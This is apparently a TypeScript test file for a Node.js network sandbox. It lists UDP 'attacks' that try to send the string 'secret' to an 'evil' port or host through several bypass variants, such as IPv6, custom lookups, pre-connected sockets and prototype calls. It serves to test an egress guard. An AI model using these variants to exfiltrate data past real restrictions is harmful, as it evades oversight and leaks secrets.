import dgram from 'node:dgram';
import { once } from 'node:events';
import { promisify } from 'node:util';
import { type Attack, family } from '../attack.ts';

export const datagramAttacks: readonly Attack[] = family(
  'node:dgram',
  ['datagrams'],
  [
    ['send', 'udp', ({ evil }) => sent(dgram.createSocket('udp4'), evil.udpPort, '127.0.0.1')],
    ['send to a name', 'udp', ({ evil }) => sent(dgram.createSocket('udp4'), evil.udpPort, evil.host)],
    ["send to the allowed host's name", 'udp', ({ evil, good }) => sent(dgram.createSocket('udp4'), evil.udpPort, good.host)],
    ['send over IPv6', 'udp', ({ evil }) => sent(dgram.createSocket('udp6'), evil.udp6Port, '::1')],
    ['send without an address', 'udp', ({ evil }) => sent(dgram.createSocket('udp4'), evil.udpPort)],
    ['send of a part', 'udp', ({ evil }) => promisify((done: () => void) => dgram.createSocket('udp4').on('error', done).send('secret', 0, 3, evil.udpPort, '127.0.0.1', done))()],
    ['send of several parts', 'udp', ({ evil }) => promisify((done: () => void) => dgram.createSocket('udp4').on('error', done).send(['sec', 'ret'], evil.udpPort, '127.0.0.1', done))()],
    [
      'send after bind',
      'udp',
      async ({ evil }) => {
        const socket = dgram.createSocket('udp4').bind(0, '127.0.0.1');
        await once(socket, 'listening');
        await sent(socket, evil.udpPort, '127.0.0.1');
      },
    ],
    [
      'connect and send',
      'udp',
      async ({ evil }) => {
        const socket = dgram.createSocket('udp4');
        socket.connect(evil.udpPort, '127.0.0.1');
        await once(socket, 'connect');
        await promisify((done: () => void) => socket.send('secret', done))();
      },
    ],
    ['a lookup of its own', 'udp', ({ evil }) => sent(dgram.createSocket({ type: 'udp4', lookup: (_, __, done) => done(null, '127.0.0.1', 4) }), evil.udpPort, 'anything')],
    ['Socket.prototype.send.call', 'udp', ({ evil }) => promisify((done: () => void) => Reflect.apply(dgram.Socket.prototype.send, dgram.createSocket('udp4').on('error', done), ['secret', evil.udpPort, '127.0.0.1', done]))()],
    ['a socket that was there before', 'udp', async ({ evil, outside }) => sent(await outside(async () => dgram.createSocket('udp4')), evil.udpPort, '127.0.0.1')],
    [
      'a socket that was connected before',
      'udp',
      async ({ evil, outside }) => {
        const socket = await outside(async () => {
          const open = dgram.createSocket('udp4');
          open.connect(evil.udpPort, '127.0.0.1');
          await once(open, 'connect');
          return open;
        });
        await promisify((done: () => void) => socket.send('secret', done))();
      },
    ],
  ],
);

function sent(socket: dgram.Socket, port: number, address?: string): Promise<void> {
  return new Promise((resolve, reject) => {
    socket.on('error', reject);
    socket.send('secret', port, address, (error) => (error === null || error === undefined ? resolve() : reject(error)));
  });
}
